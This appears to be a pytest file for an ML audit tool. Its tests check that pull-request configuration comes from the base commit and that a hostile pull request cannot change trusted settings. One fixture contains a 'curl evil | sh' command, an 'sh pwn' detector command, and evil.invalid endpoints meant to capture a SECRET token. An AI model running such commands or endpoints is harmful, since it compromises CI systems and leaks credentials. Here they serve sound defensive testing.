"""The base branch's configuration comes from the base commit's Git objects; the checkout's never replaces it."""

from __future__ import annotations

import os
from pathlib import Path

import pytest
from conftest import git, init_repo

from mlaudit.config import config_from_table
from mlaudit.errors import ConfigError
from mlaudit.github.base_config import BaseCommitUnavailable, base_branch_config
from mlaudit.github.pr_config import config_check, pin_base_keys, resolve_pull_request_config
from mlaudit.model import Status


def commit(root: Path, files: dict[str, str], message: str = "change") -> str:
    for name, text in files.items():
        (root / name).parent.mkdir(parents=True, exist_ok=True)
        (root / name).write_text(text)
    git(root, "add", "-A")
    git(root, "commit", "-q", "-m", message)
    return git(root, "rev-parse", "HEAD").strip()


def test_reads_the_base_commit_not_the_checkout(tmp_path: Path) -> None:
    root = init_repo(tmp_path / "repo")
    base = commit(root, {"mlaudit.toml": 'fail_on = "medium"\n'})
    commit(root, {"mlaudit.toml": 'fail_on = "critical"\nexclude = ["**"]\n'})
    (root / "mlaudit.toml").write_text('fail_on = "low"\n')  # uncommitted edits change nothing either
    trusted = base_branch_config(root, base)
    assert trusted.config.general.fail_on.value == "medium" and trusted.config.general.exclude == ()
    assert trusted.label == "mlaudit.toml" and trusted.config.path == root.resolve() / "mlaudit.toml"


def test_pyproject_and_a_config_inside_the_tree_are_read_from_the_commit(tmp_path: Path) -> None:
    root = init_repo(tmp_path / "repo")
    base = commit(root, {
        "pyproject.toml": '[project]\nname = "x"\n\n[tool.mlaudit]\ndisable = ["vulns"]\n',
        "ci/audit.toml": 'errors = "fail"\n',
    })
    commit(root, {"pyproject.toml": '[tool.mlaudit]\ndisable = ["vulns", "serialization"]\n',
                  "ci/audit.toml": 'errors = "warn"\n'})
    assert base_branch_config(root, base).config.general.disable == ("vulns",)
    assert base_branch_config(root, base).label == "pyproject.toml [tool.mlaudit]"
    explicit = base_branch_config(root, base, root / "ci" / "audit.toml")
    assert explicit.config.general.errors == "fail"


def test_a_config_outside_the_tree_is_the_workflows_own(tmp_path: Path) -> None:
    root = init_repo(tmp_path / "repo")
    base = commit(root, {"mlaudit.toml": 'fail_on = "medium"\n'})
    outside = tmp_path / "workflow.toml"
    outside.write_text('fail_on = "low"\n')
    assert base_branch_config(root, base, outside).config.general.fail_on.value == "low"


def test_no_config_on_the_base_means_defaults(tmp_path: Path) -> None:
    root = init_repo(tmp_path / "repo")
    base = commit(root, {"README.md": "x\n"})
    trusted = base_branch_config(root, base)
    assert trusted.label is None and trusted.config.general.exclude == ()


def test_a_symlinked_or_broken_base_config_is_an_error(tmp_path: Path) -> None:
    root = init_repo(tmp_path / "repo")
    os.symlink("/etc/hostname", root / "mlaudit.toml")
    base = commit(root, {"README.md": "x\n"})
    with pytest.raises(ConfigError, match="not a regular file"):
        base_branch_config(root, base)
    git(root, "rm", "-q", "mlaudit.toml")
    broken = commit(root, {"mlaudit.toml": "exclude = [\n"})
    with pytest.raises(ConfigError, match="invalid TOML"):
        base_branch_config(root, broken)


def test_a_missing_base_commit_is_said_and_fails(tmp_path: Path) -> None:
    root = init_repo(tmp_path / "repo")
    commit(root, {"mlaudit.toml": 'exclude = ["extras/**"]\n'})
    with pytest.raises(BaseCommitUnavailable):
        base_branch_config(root, "0" * 40)
    prc = resolve_pull_request_config(root, "0" * 40)
    assert prc.effective.general.exclude == ()  # mlaudit's defaults, never the checkout's own
    result = config_check(prc)
    assert result is not None and result.status is Status.FAIL
    assert {f.rule for f in result.findings} == {"config.base-unavailable", "config.loosened"}


def test_a_broken_pull_request_config_fails_and_the_base_governs(tmp_path: Path) -> None:
    root = init_repo(tmp_path / "repo")
    base = commit(root, {"mlaudit.toml": 'fail_on = "medium"\n'})
    commit(root, {"mlaudit.toml": '[nonsense]\nx = 1\n'})
    prc = resolve_pull_request_config(root, base)
    assert prc.effective.general.fail_on.value == "medium"
    result = config_check(prc)
    assert result is not None and [f.rule for f in result.findings] == ["config.invalid"]


def test_a_base_waiver_can_accept_a_reviewed_loosening(tmp_path: Path) -> None:
    root = init_repo(tmp_path / "repo")
    waiver = ('[[waivers]]\nrule = "config.loosened"\nreason = "docs may be excluded"\n'
              'owner = "maintainers"\nexpires = 2099-01-01\n')
    base = commit(root, {"mlaudit.toml": waiver})
    commit(root, {"mlaudit.toml": 'exclude = ["docs/**"]\n' + waiver})
    result = config_check(resolve_pull_request_config(root, base))
    assert result is not None and result.status is Status.PASS
    assert [a.finding.rule for a in result.accepted] == ["config.loosened"]


def test_trusted_pull_request_config_keeps_the_base_commands_and_state() -> None:
    base = config_from_table(None, {"cache_dir": "/srv/cache", "performance": {"command": "python eval.py"}}, "")
    head = config_from_table(None, {
        "exclude": ["extras/**"],
        "cache_dir": ".mlaudit-cache",
        "trust_pr_config": True,
        "performance": {"command": "sh -c 'curl evil | sh'", "timeout": 5.0},
        "probes": {"detector-command": "sh pwn", "url": "https://evil.invalid"},
        "access": {"api-url": "https://evil.invalid", "token_env": ["SECRET"]},
    }, "")
    pinned = pin_base_keys(head, base)
    assert pinned.general.exclude == ("extras/**",)  # the rest of the pull request's configuration applies
    assert pinned.general.cache_dir == "/srv/cache" and pinned.general.trust_pr_config is False
    assert pinned.tables["performance"] == {"command": "python eval.py", "timeout": 5.0}
    assert pinned.tables["probes"] == {} and pinned.tables["access"] == {}


def test_the_base_worktree_gets_the_same_config_file_position(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from mlaudit.github.pull_request_run import rebased

    root = init_repo(tmp_path / "repo")
    base = commit(root, {"sub/mlaudit.toml": 'fail_on = "low"\n'})
    monkeypatch.chdir(root)
    trusted = base_branch_config(Path("sub"), base).config
    moved = rebased(trusted, Path("sub"), tmp_path / "worktree" / "sub")
    assert moved.path == tmp_path / "worktree" / "sub" / "mlaudit.toml"
    assert moved.general.fail_on.value == "low"
